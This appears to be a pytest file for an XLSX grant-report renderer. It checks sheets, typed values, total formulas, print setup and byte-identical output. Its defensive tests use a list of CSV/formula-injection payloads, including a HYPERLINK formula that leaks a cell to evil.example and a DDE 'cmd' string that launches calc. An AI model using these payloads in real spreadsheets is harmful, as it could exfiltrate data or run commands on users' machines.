"""The report workbook read back as its user sees it: sheets, typed values, total formulas, print setup."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import replace
from datetime import datetime
from decimal import Decimal
from pathlib import Path, PurePosixPath

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from reporter.i18n import report_words
from reporter.reports.model import (DATA, DATE, GROUP, INTEGER, MONEY, NUMBER, PERCENT, SUBTOTAL, TEXT, Column, Row,
                                    Table)
from reporter.reports.xlsx import GROUP_COLUMNS, RELATIONS, render_xlsx
from reporter.services.demo import create_demo
from reporter.services.reports import report_data, write_report
from reporter.store import Store
from libreoffice import recalculate_with_libreoffice
from report_samples import sample_report

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
CENT = Decimal("0.01")

# With 120 expenditure rows, the expenditure sheet is: title, header, then per budget line a GROUP row,
# 60 data rows and a SUBTOTAL row, then the total row.
LT_SHEETS = ["Report", "Biudžeto eilutė", "Išlaidų sąrašas"]
FIRST_GROUP, FIRST_SUBTOTAL, SECOND_GROUP, SECOND_SUBTOTAL, TOTAL = 3, 64, 65, 126, 127

INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+370 600 00000", "-5", "@SUM(A1)", "=1+1",
              "#N/A", "#DIV/0!", "\t=cmd|' /C calc'!A0", "-2+3"]


def _render(data, path: Path) -> Path:
    render_xlsx(data, path)
    return path


@pytest.fixture(scope="module")
def lt_file(tmp_path_factory) -> Path:
    return _render(sample_report("lt", 120), tmp_path_factory.mktemp("xlsx") / "report-lt.xlsx")


@pytest.fixture(scope="module")
def lt_book(lt_file):
    return openpyxl.load_workbook(lt_file, data_only=False)


def _sheet_xml(path: Path, sheet_name: str) -> ET.Element:
    """The raw XML of one worksheet, found through the workbook's relationships."""
    with zipfile.ZipFile(path) as archive:
        workbook = ET.fromstring(archive.read("xl/workbook.xml"))
        rels = ET.fromstring(archive.read("xl/_rels/workbook.xml.rels"))
        rel_id = next(s.get(f"{REL}id") for s in workbook.iter(f"{MAIN}sheet") if s.get("name") == sheet_name)
        target = next(r.get("Target") for r in rels if r.get("Id") == rel_id)
        member = target.lstrip("/") if target.startswith("/") else str(PurePosixPath("xl") / target)
        return ET.fromstring(archive.read(member))


def _raw_cell(sheet_xml: ET.Element, coordinate: str) -> ET.Element:
    return next(c for c in sheet_xml.iter(f"{MAIN}c") if c.get("r") == coordinate)


def _cents(value) -> Decimal:
    return Decimal(str(value)).quantize(CENT)


# --- sheets and the summary ------------------------------------------------------------------------------------


def test_render_xlsx__summary_sheet_first_then_one_sheet_per_table_named_by_title(lt_book):
    assert lt_book.sheetnames == LT_SHEETS


def test_render_xlsx__summary_sheet_is_named_from_the_label_when_given(tmp_path):
    data = sample_report("lv", 10)
    data = replace(data, labels={**data.labels, "summary_sheet": "Kopsavilkums"})
    book = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx"))
    assert book.sheetnames == ["Kopsavilkums", "Budžeta pozīcija", "Expenditure"]


def test_render_xlsx__sheet_names_are_cut_to_31_characters_cleaned_and_unique(tmp_path):
    base = sample_report("lt", 4)
    overview = base.tables[0]
    titles = ["Išlaidos [2024]: A/B*C?D\\E — labai ilgas pavadinimas",
              "Išlaidos [2024]: A/B*C?D\\E — labai ilgas kitas", "Biudžeto eilutė", "biudžeto eilutė",
              "[]:*?/\\", "'Citata'"]
    tables = tuple(replace(overview, key=f"t{i}", title=title) for i, title in enumerate(titles))
    data = replace(base, tables=tables, labels={"summary_sheet": "Biudžeto eilutė"})
    names = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx")).sheetnames
    assert names == ["Biudžeto eilutė", "Išlaidos 2024 ABCDE — labai", "Išlaidos 2024 ABCDE — labai (2)",
                     "Biudžeto eilutė (2)", "biudžeto eilutė (3)", "t4", "Citata"]
    assert all(len(name) <= 31 for name in names)


@pytest.mark.parametrize("title, name", [
    ("Transfers between budget categories", "Transfers between budget"),
    ("Suvestinė apžvalga pagal partnerius", "Suvestinė apžvalga pagal"),
    ("Finanšu pārskats pa budžeta pozīcijām", "Finanšu pārskats pa budžeta"),
    ("Co-financing: by fund and partner", "Co-financing by fund and"),
    ("Nepertraukiamaszodisbetjokiotarpoilgesnis", "Nepertraukiamaszodisbetjokiotar"),
])
def test_render_xlsx__long_sheet_names_end_at_a_word(tmp_path, title, name):
    base = sample_report("en", 2)
    data = replace(base, tables=(replace(base.tables[0], title=title),))
    assert openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx")).sheetnames[1] == name


def test_render_xlsx__summary_shows_title_header_pairs_findings_and_signature_fields(lt_book):
    sheet = lt_book["Report"]
    rows = [tuple(v for v in row if v is not None) for row in sheet.iter_rows(values_only=True)]
    rows = [row for row in rows if row]
    assert rows[0] == ("Partnerio pažangos ataskaita",)
    assert rows[1] == ("LLI-537 · Laikotarpis 4",)
    assert ("Projektas", "LLI-537 Bibliotekos be sienų / Bibliotēkas bez sienām") in rows
    assert ("Partneris", "Šiaulių apskrities Povilo Višinskio viešoji biblioteka") in rows
    assert ("Laikotarpis", "4: 2025-07-01 – 2025-12-31") in rows
    findings = rows.index(("Patikrų radiniai",))
    assert rows[findings + 1] == ("Klaida", "budget-line", "PP3 EXTERNAL: 3225.52 spent against 2500.00", "#1, #36")
    assert rows[findings + 2] == ("Įspėjimas", "eligibility", "2 išlaidos neapmokėtos")
    signatures = rows.index(("Parašai",))
    assert rows[signatures + 1:] == [("Vardas, pavardė",), ("Pareigos",), ("Data",), ("Parašas",)]
    assert sheet["A1"].font.bold


def test_render_xlsx__signature_fields_have_empty_lined_cells_to_fill(lt_book):
    sheet = lt_book["Report"]
    row = next(c.row for c in sheet["A"] if c.value == "Parašas")
    assert sheet.cell(row, 2).value is None
    assert sheet.cell(row, 2).border.bottom.style == "thin"


def test_render_xlsx__summary_says_no_findings_when_there_are_none(tmp_path):
    data = replace(sample_report("lv", 4), findings=())
    sheet = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx"))["Report"]
    values = [c.value for c in sheet["A"]]
    assert values[values.index("Konstatējumi") + 1] == "Atklātu konstatējumu nav."


@pytest.mark.parametrize("orientation, broken", [("landscape", True), ("portrait", False)])
def test_render_xlsx__signatures_that_would_cross_a_page_go_over_with_the_last_finding(tmp_path, orientation, broken):
    base = sample_report("lv", 4)
    data = replace(base, orientation=orientation, findings=base.findings[:1] * 2,
                   signatories=("Organizācijas vadītājs", "Galvenais grāmatvedis"))
    sheet = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx"))["Report"]
    values = [c.value for c in sheet["A"]]
    last_finding = values.index("Paraksti") - 1  # 1-based: the row before the empty one above the signatures
    breaks = [b.id for b in sheet.row_breaks.brk]
    # on an A4 page across, the two signatories do not fit under the header and the findings: the next page
    # begins with the last finding and holds them whole; down the page, all fits on one
    assert breaks == ([last_finding - 1] if broken else [])
    assert sheet.cell(last_finding, 1).value == base.findings[0].severity_label


# --- table sheets: layout and typed values --------------------------------------------------------------------


def test_render_xlsx__table_sheet_has_title_then_bold_filled_wrapped_column_headers(lt_book):
    sheet = lt_book["Išlaidų sąrašas"]
    assert sheet["A1"].value == "Išlaidų sąrašas"
    assert [c.value for c in sheet[2]] == ["Nr.", "Data", "Dokumentas", "Tiekėjas", "Aprašymas", "Bendra suma", "EUR",
                                           "Biudžeto eilutė"]
    for cell in sheet[2]:
        assert cell.font.bold and cell.alignment.wrap_text
        assert cell.fill.fill_type == "solid"
    overview = lt_book["Biudžeto eilutė"]
    assert [c.value for c in overview[2]] == ["Biudžeto eilutė", "Patvirtintas biudžetas", "Šis laikotarpis",
                                              "Iš viso iki šiol", "Panaudota %"]


def test_render_xlsx__amounts_are_numbers_with_money_format_and_percents_with_percent_format(lt_file, lt_book):
    overview = lt_book["Biudžeto eilutė"]
    assert overview["A4"].value == "Kelionių ir apgyvendinimo išlaidos"
    assert overview["C4"].value == 263449.92 and overview["C4"].data_type == "n"
    assert overview["C4"].number_format == "#,##0.00"
    assert overview["E4"].value == "=ROUND(D4/B4*100,2)" and overview["E4"].number_format == '0.00" %"'
    assert openpyxl.load_workbook(lt_file, data_only=True)["Biudžeto eilutė"]["E4"].value == 4053.08
    assert overview["B3"].value == 48000 and overview["B3"].number_format == "#,##0.00"
    expenditure = lt_book["Išlaidų sąrašas"]
    assert expenditure["F5"].value == 37.01 and expenditure["F5"].number_format == "#,##0.00"


def test_render_xlsx__dates_are_real_dates_shown_as_iso(lt_book):
    sheet = lt_book["Išlaidų sąrašas"]
    assert sheet["B4"].is_date and sheet["B4"].value == datetime(2024, 1, 1)
    assert sheet["B5"].value == datetime(2024, 2, 2)
    assert sheet["B4"].number_format == "yyyy-mm-dd"


def test_render_xlsx__group_rows_carry_a_bold_title_in_the_first_cell(lt_book):
    sheet = lt_book["Išlaidų sąrašas"]
    assert sheet.cell(FIRST_GROUP, 1).value == "Personalo išlaidos"
    assert sheet.cell(SECOND_GROUP, 1).value == "Kelionių ir apgyvendinimo išlaidos"
    assert sheet.cell(FIRST_GROUP, 1).font.bold
    assert all(c.value is None for c in sheet[FIRST_GROUP][1:-1])


def test_render_xlsx__every_row_of_a_group_carries_its_title_in_its_own_last_column(lt_book):
    sheet = lt_book["Išlaidų sąrašas"]
    assert sheet.cell(2, 8).value == "Biudžeto eilutė"
    column = [sheet.cell(row, 8).value for row in range(FIRST_GROUP, TOTAL + 1)]
    assert column == ["Personalo išlaidos"] * (FIRST_SUBTOTAL - FIRST_GROUP + 1) + \
        ["Kelionių ir apgyvendinimo išlaidos"] * (SECOND_SUBTOTAL - SECOND_GROUP + 1) + [None]
    assert sheet.print_area == f"'Išlaidų sąrašas'!$A$1:$G${TOTAL}"  # the headings say it on paper


def test_render_xlsx__number_and_integer_columns_get_their_formats(tmp_path):
    table = Table("units", "Vienetai", (Column("what", "Kas"), Column("units", "Vienetai", NUMBER, total=True),
                                        Column("people", "Dalyviai", "integer", total=True)),
                  (Row(("Susitikimas", Decimal("3.5"), 12)), Row(("Renginys", Decimal("2.25"), 30))), "Iš viso")
    data = replace(sample_report("lt", 2), tables=(table,))
    sheet = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx"))["Vienetai"]
    assert (sheet["B3"].value, sheet["B3"].number_format) == (3.5, "#,##0.0")  # the value's own decimals
    assert (sheet["B4"].value, sheet["B4"].number_format) == (2.25, "#,##0.00")
    assert (sheet["C3"].value, sheet["C3"].number_format) == (12, "0")
    assert (sheet["B5"].value, sheet["B5"].number_format) == ("=SUM(B3:B4)", "#,##0.00")
    assert (sheet["C5"].value, sheet["C5"].number_format) == ("=SUM(C3:C4)", "0")


# --- totals are formulas ---------------------------------------------------------------------------------------


def test_render_xlsx__subtotal_rows_sum_their_group_with_subtotal_formulas(lt_book):
    sheet = lt_book["Išlaidų sąrašas"]
    assert sheet.cell(FIRST_SUBTOTAL, 1).value == "Tarpinė suma"
    assert sheet.cell(FIRST_SUBTOTAL, 6).value == f"=SUBTOTAL(9,F{FIRST_GROUP + 1}:F{FIRST_SUBTOTAL - 1})"
    assert sheet.cell(FIRST_SUBTOTAL, 7).value == f"=SUBTOTAL(9,G{FIRST_GROUP + 1}:G{FIRST_SUBTOTAL - 1})"
    assert sheet.cell(SECOND_SUBTOTAL, 6).value == f"=SUBTOTAL(9,F{SECOND_GROUP + 1}:F{SECOND_SUBTOTAL - 1})"
    assert sheet.cell(SECOND_SUBTOTAL, 6).number_format == "#,##0.00"
    assert sheet.cell(SECOND_SUBTOTAL, 6).font.bold and sheet.cell(SECOND_SUBTOTAL, 1).font.bold


def test_render_xlsx__total_row_uses_subtotal_over_all_rows_when_the_table_has_subtotals(lt_book):
    sheet = lt_book["Išlaidų sąrašas"]
    assert sheet.cell(TOTAL, 1).value == "Iš viso"
    assert sheet.cell(TOTAL, 6).value == f"=SUBTOTAL(9,F3:F{SECOND_SUBTOTAL})"
    assert sheet.cell(TOTAL, 7).value == f"=SUBTOTAL(9,G3:G{SECOND_SUBTOTAL})"
    assert sheet.cell(TOTAL, 7).font.bold
    assert sheet.max_row == TOTAL


def test_render_xlsx__total_row_uses_sum_when_the_table_has_no_subtotals(lt_book):
    sheet = lt_book["Biudžeto eilutė"]
    assert [c.value for c in sheet[6]] == ["Iš viso", "=SUM(B3:B5)", "=SUM(C3:C5)", "=SUM(D3:D5)", None]
    assert sheet["B6"].number_format == "#,##0.00" and sheet["B6"].font.bold


def test_render_xlsx__subtotals_without_group_rows_sum_since_the_previous_subtotal(tmp_path):
    columns = (Column("what", "Kas"), Column("sum", "Suma", MONEY, total=True))
    rows = (Row(("a", Decimal("1.00"))), Row(("b", Decimal("2.00"))), Row(("Tarpinė", None), SUBTOTAL),
            Row(("c", Decimal("4.00"))), Row(("Tarpinė", None), SUBTOTAL),
            Row(("Tuščia", None), GROUP), Row(("Tarpinė", None), SUBTOTAL))
    data = replace(sample_report("lt", 2), tables=(Table("t", "Lentelė", columns, rows, "Iš viso"),))
    sheet = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx"))["Lentelė"]
    assert [sheet[f"B{r}"].value for r in range(3, 11)] == [
        1, 2, "=SUBTOTAL(9,B3:B4)", 4, "=SUBTOTAL(9,B6:B6)", None, 0, "=SUBTOTAL(9,B3:B9)"]


def test_render_xlsx__totals_and_derived_figures_are_the_formulas_of_the_workbook(lt_book):
    formulas = {(sheet.title, cell.coordinate) for sheet in lt_book for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"}
    assert formulas == {("Biudžeto eilutė", c) for c in ("B6", "C6", "D6", "E3", "E4", "E5")} | \
        {("Išlaidų sąrašas", f"{c}{r}") for c in "FG" for r in (FIRST_SUBTOTAL, SECOND_SUBTOTAL, TOTAL)}


# --- user text stays text ---------------------------------------------------------------------------------------


def _data_with_injections():
    base = sample_report("lt", 4)
    columns = (Column("supplier", "Tiekėjas", TEXT), Column("amount", "Suma", MONEY, total=True),
               Column("share", "Dalis", PERCENT))
    rows = [Row(("=SUM(1,2)", None), GROUP)]
    rows += [Row((text, Decimal("1.00"), text)) for text in INJECTIONS]
    rows.append(Row(("=Tarpinė", None), SUBTOTAL))
    table = Table("inj", "=Tiekėjai", columns, tuple(rows), total_label="@Iš viso")
    findings = tuple(replace(base.findings[0], rule=text, message=text, records=text) for text in INJECTIONS)
    return replace(base, tables=(table,), header=tuple(("+Projektas", text) for text in INJECTIONS),
                   findings=findings, signature_fields=("=Vardas", "-Pareigos"))


def test_render_xlsx__user_text_never_becomes_a_formula(tmp_path):
    path = _render(_data_with_injections(), tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(path, data_only=False)
    checked = 0
    for sheet in book:
        raw = _sheet_xml(path, sheet.title)
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":  # only the renderer's totals
                    assert cell.value.startswith(("=SUBTOTAL(9,", "=SUM(")), cell.coordinate
                    continue
                if not isinstance(cell.value, str) or cell.value[:1] not in "=+-@#\t":
                    continue
                assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                element = _raw_cell(raw, cell.coordinate)
                assert element.find(f"{MAIN}f") is None, (sheet.title, cell.coordinate)
                assert element.get("t") in ("inlineStr", "s")
                if cell.value[0] in "=+-@\t":
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                checked += 1
    assert checked >= 4 * len(INJECTIONS)
    values = {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}
    assert set(INJECTIONS) <= values  # every text kept literally
    assert {"=SUM(1,2)", "=Tarpinė", "@Iš viso", "+Projektas", "=Vardas", "-Pareigos"} <= values
    assert book.sheetnames[1] == "=Tiekėjai"


def test_render_xlsx__sample_suppliers_stay_literal_text_in_the_sheet_xml(lt_file, lt_book):
    sheet = lt_book["Išlaidų sąrašas"]
    raw = _sheet_xml(lt_file, "Išlaidų sąrašas")
    hyperlink, phone = sheet["D7"], sheet["D8"]
    assert (hyperlink.value, hyperlink.data_type) == ('=HYPERLINK("http://x")', "s")
    assert (phone.value, phone.data_type) == ("+370 600 00000", "s")
    element = _raw_cell(raw, "D7")
    assert element.get("t") == "inlineStr" and element.find(f"{MAIN}f") is None
    assert "".join(element.itertext()) == '=HYPERLINK("http://x")'


def test_render_xlsx__control_characters_in_text_do_not_break_the_file(tmp_path):
    data = sample_report("lt", 2)
    data = replace(data, header=(("Projektas", "Bibliotekos\x0bbe\x00sienų"),))
    sheet = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx"))["Report"]
    assert "Bibliotekos\ufffdbe\ufffdsienų" in [c.value for c in sheet["B"]]


# --- view and print setup --------------------------------------------------------------------------------------


def test_render_xlsx__panes_freeze_below_the_header_and_autofilter_covers_header_and_data(lt_book):
    expenditure, overview = lt_book["Išlaidų sąrašas"], lt_book["Biudžeto eilutė"]
    assert expenditure.freeze_panes == "A3" and overview.freeze_panes == "A3"
    assert expenditure.auto_filter.ref == f"A2:H{SECOND_SUBTOTAL}"  # the total row stays out of sorting
    assert overview.auto_filter.ref == "A2:E5"


def test_render_xlsx__every_sheet_prints_a4_landscape_one_page_wide_with_repeated_titles(lt_book):
    for sheet in lt_book:
        assert sheet.page_setup.orientation == "landscape"
        assert int(sheet.page_setup.paperSize) == 9  # A4
        assert int(sheet.page_setup.fitToWidth) == 1 and int(sheet.page_setup.fitToHeight) == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.oddFooter.center.text == "Puslapis &P iš &N"
    assert lt_book["Išlaidų sąrašas"].print_title_rows == "$1:$2"
    assert lt_book["Biudžeto eilutė"].print_title_rows == "$1:$2"
    assert lt_book["Report"].print_title_rows == "$1:$1"


def test_render_xlsx__portrait_reports_print_portrait(tmp_path):
    data = replace(sample_report("en", 4), orientation="portrait")
    book = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx"))
    assert {sheet.page_setup.orientation for sheet in book} == {"portrait"}


def test_render_xlsx__column_widths_follow_relative_width_and_content(lt_book):
    sheet = lt_book["Išlaidų sąrašas"]
    width = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFG"}
    assert width["A"] < width["C"] < width["D"] < width["E"]
    assert width["E"] >= 0.85 * len("Komandiruotė į Jelgavą ir atgal; nakvynė viešbutyje „Rīga“")
    assert width["F"] >= len("2,183.59") + 2
    assert max(width.values()) <= 50


def test_render_xlsx__text_longer_than_the_widest_column_wraps(tmp_path):
    long_text = "Labai ilgas aprašymas " * 10
    table = Table("t", "Lentelė", (Column("d", "Aprašymas", TEXT, 1),), (Row((long_text,)), Row(("trumpas",))))
    data = replace(sample_report("lt", 2), tables=(table,))
    sheet = openpyxl.load_workbook(_render(data, tmp_path / "r.xlsx"))["Lentelė"]
    assert sheet.column_dimensions["A"].width == 50
    assert sheet["A3"].alignment.wrap_text and sheet["A3"].alignment.vertical == "top"
    assert sheet.row_dimensions[3].height >= 4 * 12.75  # 220 characters in lines of at most 50


# --- file properties and reproducibility ------------------------------------------------------------------------


def test_render_xlsx__document_properties_name_title_author_and_a_fixed_time(lt_book):
    props = lt_book.properties
    assert props.title == "Partnerio pažangos ataskaita"
    assert props.creator == "Grant Reporter"
    assert props.created == props.modified == datetime(2000, 1, 1)


def test_render_xlsx__same_data_gives_byte_identical_files(tmp_path):
    first = _render(sample_report("lt", 200), tmp_path / "a.xlsx").read_bytes()
    time.sleep(1.1)  # a zip entry time or "modified" stamp would now differ
    second = _render(sample_report("lt", 200), tmp_path / "b.xlsx").read_bytes()
    assert first == second
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        assert {info.date_time for info in archive.infolist()} == {(2000, 1, 1, 0, 0, 0)}


def test_render_xlsx__same_data_gives_byte_identical_files_across_processes(tmp_path):
    code = ("import sys; from pathlib import Path; from report_samples import sample_report; "
            "from reporter.reports.xlsx import render_xlsx; render_xlsx(sample_report('lv', 50), Path(sys.argv[1]))")
    tests = Path(__file__).resolve().parent
    for name, seed in (("a.xlsx", "1"), ("b.xlsx", "2")):
        subprocess.run([sys.executable, "-c", code, str(tmp_path / name)], cwd=tests, check=True,
                       env={**os.environ, "PYTHONHASHSEED": seed})
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_render_xlsx__replaces_an_existing_file_and_leaves_no_temporary_file(tmp_path):
    path = tmp_path / "r.xlsx"
    path.write_bytes(b"old")
    render_xlsx(sample_report("lt", 2), path)
    assert zipfile.is_zipfile(path)
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]


# --- LibreOffice recalculates the totals ------------------------------------------------------------------------

def test_render_xlsx__libreoffice_recalculates_the_totals_to_the_python_sums(tmp_path):
    data = sample_report("lv", 400)
    recalculated = recalculate_with_libreoffice(_render(data, tmp_path / "report.xlsx"), tmp_path)
    book = openpyxl.load_workbook(recalculated, data_only=True)

    overview_table, expenditure_table = data.tables
    overview = book["Budžeta pozīcija"]
    total_row = 3 + len(overview_table.rows)
    for index in (1, 2, 3):
        expected = sum(row.cells[index] for row in overview_table.rows)
        assert _cents(overview.cell(total_row, index + 1).value) == expected

    expenditure = book["Expenditure"]
    groups: list[list[Row]] = []
    for row in expenditure_table.rows:
        if row.kind == GROUP:
            groups.append([])
        elif row.kind == DATA:
            groups[-1].append(row)
    sheet_row, grand = 3, {5: Decimal(0), 6: Decimal(0)}
    for group in groups:
        sheet_row += 1 + len(group)  # the GROUP row and its data rows
        for index in (5, 6):
            expected = sum(row.cells[index] for row in group)
            grand[index] += expected
            assert _cents(expenditure.cell(sheet_row, index + 1).value) == expected
        sheet_row += 1
    assert expenditure.cell(sheet_row, 1).value == "Kopā"
    for index in (5, 6):
        assert _cents(expenditure.cell(sheet_row, index + 1).value) == grand[index]


# --- the demo's reports read back as a reviewer reads them ------------------------------------------------------

DEMO_REPORTS = [  # project, period, partner, language: each template, consolidated and partner reports
    ("LLI-537", 2, "LP", "lt"), ("LLI-537", 2, None, "lv"), ("KA204-077512", 2, None, "en"),
    ("KA204-077512", 2, "P2", "lt"), ("LKT-2024-0815", 1, None, "lt"), ("BRF-2024-LV07", 1, None, "lv"),
    ("BRF-2024-LV07", 2, None, "en"), ("LBD-2024-2026", 1, None, "lt"), ("LBD-2024-2026", 2, None, "en"),
]
NUMERIC = (MONEY, PERCENT, NUMBER, INTEGER)


@pytest.fixture(scope="module")
def demo_books(tmp_path_factory):
    """(data set, workbook path) of each demo report."""
    folder = tmp_path_factory.mktemp("demo-xlsx")
    store = Store.open(folder / "demo.sqlite3")
    create_demo(store)
    books = []
    for project, period, partner, lang in DEMO_REPORTS:
        day = datetime(2026, 1, 15).date()
        [written] = write_report(store, project, period, folder / "out", partner=partner, lang=lang,
                                 formats=["xlsx"], today=day)
        data, _ = report_data(store, project, period, partner=partner, lang=lang, today=day)
        books.append((data, written.path))
    store.close()
    return books


def _sheets(data, path):
    """Each table of the data set with its sheet (formulas) and the same sheet's cached values."""
    formulas, values = openpyxl.load_workbook(path), openpyxl.load_workbook(path, data_only=True)
    return [(table, formulas[name], values[name]) for table, name in zip(data.tables, formulas.sheetnames[1:])]


def test_report_workbooks__derived_figures_are_formulas_whose_cached_values_are_the_reports_figures(demo_books):
    derived = 0
    for data, path in demo_books:
        for table, sheet, cached in _sheets(data, path):
            keys = [column.key for column in table.columns]
            targets = {r.target for r in RELATIONS if all(k in keys for k in r.inputs)} & set(keys)
            for offset, row in enumerate(table.rows):
                number = 3 + offset
                for index, value in enumerate(row.cells):
                    if not isinstance(value, Decimal):
                        continue
                    cell = sheet.cell(number, index + 1)
                    assert Decimal(str(cached.cell(number, index + 1).value)) == value, (path.name, cell.coordinate)
                    computable = any(r.target == keys[index] and all(
                        k in keys and isinstance(row.cells[keys.index(k)], (Decimal, int)) for k in r.inputs)
                        for r in RELATIONS)  # not a flat rate's row, whose amount no cell of it gives
                    if row.kind == DATA and keys[index] in targets and computable:
                        assert cell.data_type == "f", (path.name, sheet.title, cell.coordinate, cell.value)
                        derived += 1
    assert derived > 400


def test_report_workbooks__subtotals_totals_and_the_payment_position_are_formulas(demo_books):
    words = {}
    for data, path in demo_books:
        for table, sheet, cached in _sheets(data, path):
            for offset, row in enumerate(table.rows):
                if row.kind == SUBTOTAL:
                    for index, column in enumerate(table.columns):
                        if column.total and index:
                            assert sheet.cell(3 + offset, index + 1).data_type == "f"
            if table.total_label:
                total = 3 + len(table.rows)
                assert sheet.cell(total, 1).value == table.total_label
                for index, column in enumerate(table.columns):
                    if column.total and index:
                        assert sheet.cell(total, index + 1).value.startswith(("=SUM(", "=SUBTOTAL(9,"))
            if table.key == "payment" and data.template.startswith("erasmus"):
                for offset, row in enumerate(table.rows):
                    words[row.cells[0]] = sheet.cell(3 + offset, 3).value
            if table.key == "funds" and data.lang == "en":
                for offset, row in enumerate(table.rows):
                    words[row.cells[0]] = (sheet.cell(3 + offset, 2).value, sheet.cell(3 + offset, 3).value)
    # The Erasmus+ grant's position: what the costs claim less what was paid, traceable to those rows.
    assert words["Paid in total"].startswith("=SUM(C")
    assert words["Amount due"].startswith("=MAX(0,C")
    # The foundation's balance on hand: from the one at the period's start, and to date from nothing.
    assert words["Balance on hand at the end of the period"] == ("=B3+B4+B5-B6", "=C4+C5-C6")


def test_report_workbooks__libreoffice_recalculates_every_formula_to_the_reports_figure(demo_books, tmp_path):
    checked = 0
    for data, path in demo_books[:4] + demo_books[5:6] + demo_books[7:8]:
        formulas = openpyxl.load_workbook(path)
        cached = openpyxl.load_workbook(path, data_only=True)
        recalculated = openpyxl.load_workbook(recalculate_with_libreoffice(path, tmp_path / path.stem),
                                              data_only=True)
        for sheet in formulas:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type != "f":
                        continue
                    mine = cached[sheet.title][cell.coordinate].value
                    theirs = recalculated[sheet.title][cell.coordinate].value
                    assert _cents(theirs) == _cents(mine), (path.name, sheet.title, cell.coordinate, cell.value)
                    checked += 1
    assert checked > 500


def test_report_workbooks__every_expenditure_row_carries_its_budget_line(demo_books):
    checked = 0
    for data, path in demo_books:
        for table, sheet, _ in _sheets(data, path):
            if table.key not in GROUP_COLUMNS or not any(row.kind == GROUP for row in table.rows):
                continue
            last = len(table.columns) + 1
            assert sheet.cell(2, last).value == report_words(data.lang)[GROUP_COLUMNS[table.key]]
            title = None
            for offset, row in enumerate(table.rows):
                if row.kind == GROUP:
                    title = row.cells[0]
                if row.kind == DATA:
                    assert sheet.cell(3 + offset, last).value == title, (path.name, 3 + offset)
                    checked += 1
    assert checked > 300


def test_report_workbooks__amounts_are_numbers_and_dates_are_dates(demo_books):
    for data, path in demo_books:
        for table, sheet, _ in _sheets(data, path):
            for offset, row in enumerate(table.rows):
                for index, (column, value) in enumerate(zip(table.columns, row.cells)):
                    cell = sheet.cell(3 + offset, index + 1)
                    if isinstance(value, (Decimal, int)) and column.kind in NUMERIC:
                        assert cell.data_type in ("n", "f") and not isinstance(cell.value, str) or \
                            cell.value.startswith("="), (path.name, cell.coordinate)
                    if column.kind == DATE and value is not None:
                        assert cell.is_date, (path.name, cell.coordinate)


def test_report_workbooks__sheet_names_are_unique_and_end_at_a_word_of_their_title(demo_books):
    for data, path in demo_books:
        names = openpyxl.load_workbook(path).sheetnames
        assert len({n.lower() for n in names}) == len(names)
        for table, name in zip(data.tables, names[1:]):
            title = " ".join(table.title.replace(":", "").split())
            base = re.sub(r" \(\d+\)$", "", name)
            assert len(name) <= 31 and title.startswith(base), (name, title)
            assert len(base) == len(title) or not title[len(base)].isalnum() or len(base) == 31, (name, title)


def test_report_workbooks__wide_sheets_print_at_a_readable_scale(demo_books):
    for data, path in demo_books:
        for sheet in openpyxl.load_workbook(path):
            widths = [d.width for d in sheet.column_dimensions.values() if not d.hidden]
            if sheet.print_area:  # the group column is left out of the print
                widths = widths[:-1]
            page = (11.69 if sheet.page_setup.orientation == "landscape" else 8.27) - 2 * sheet.page_margins.left
            needed = sum(7 * w + 5 for w in widths) / (page * 96)  # the page width the columns need at 100 %
            if sheet.sheet_properties.pageSetUpPr.fitToPage:
                assert int(sheet.page_setup.fitToWidth) == 1 and needed <= 1 / 0.7, (path.name, sheet.title)
            else:
                assert int(sheet.page_setup.scale) == 70 and sheet.page_setup.pageOrder == "overThenDown"
            assert sheet.print_title_rows


def _wrapped_lines(font, text: str, pixels: float) -> int:
    """Lines of `text` wrapped within `pixels` at spaces and after dashes, measured with the real font."""
    lines = 0
    for paragraph in str(text).split("\n"):
        lines += 1
        line = ""
        for piece in re.split(r"(?<=[ \-–—])(?=[^ ])", paragraph):
            if line and font.getlength((line + piece).rstrip()) > pixels:
                lines += 1
                line = ""
            line += piece
            while font.getlength(line.rstrip()) > pixels:  # longer than a line: broken at a character
                fits = max(i for i in range(1, len(line) + 1) if font.getlength(line[:i]) <= pixels or i == 1)
                lines += 1
                line = line[fits:]
    return lines


def test_report_workbooks__row_heights_fit_their_wrapped_text_in_arial_10(demo_books):
    from PIL import ImageFont

    found = subprocess.run(["fc-match", "-f", "%{file}", "Liberation Sans"], capture_output=True, text=True).stdout
    if "LiberationSans" not in found:
        pytest.skip("Liberation Sans (Arial's metrics) is not installed")
    regular = ImageFont.truetype(found, 10 * 96 / 72 * 8)  # measured 8 times larger, for sub-pixel widths
    bold = ImageFont.truetype(found.replace("Regular", "Bold"), 10 * 96 / 72 * 8)
    checked = 0
    for data, path in demo_books:
        for sheet in openpyxl.load_workbook(path):
            merged = {r.start_cell.coordinate: r for r in sheet.merged_cells.ranges}
            for row in sheet.iter_rows():
                height = sheet.row_dimensions[row[0].row].height or 15
                for cell in row:
                    if not isinstance(cell.value, str) or not cell.alignment.wrap_text or cell.font.sz != 10:
                        continue
